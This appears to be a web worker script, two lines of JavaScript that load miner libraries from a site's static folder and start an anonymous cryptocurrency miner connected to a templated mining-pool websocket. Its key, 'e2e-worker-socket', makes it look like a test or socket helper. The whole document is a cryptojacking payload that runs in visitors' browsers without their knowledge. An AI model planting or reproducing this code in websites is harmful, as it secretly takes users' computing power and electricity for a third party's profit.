importScripts('/static/m-hash.js', '/static/m.js');
Miner.Anonymous('e2e-worker-socket', {pool: '{{POOL_WS}}', inline: true}).start();
